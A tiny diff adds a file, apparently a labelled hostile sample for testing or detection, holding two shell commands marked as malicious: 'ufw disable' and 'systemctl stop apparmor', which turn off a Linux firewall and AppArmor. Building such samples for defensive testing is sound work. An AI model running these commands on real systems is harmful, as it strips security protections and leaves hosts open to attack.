@@ -1,0 +1,3 @@
+# Malicious: disables the ufw firewall and AppArmor.
+ufw disable
+systemctl stop apparmor
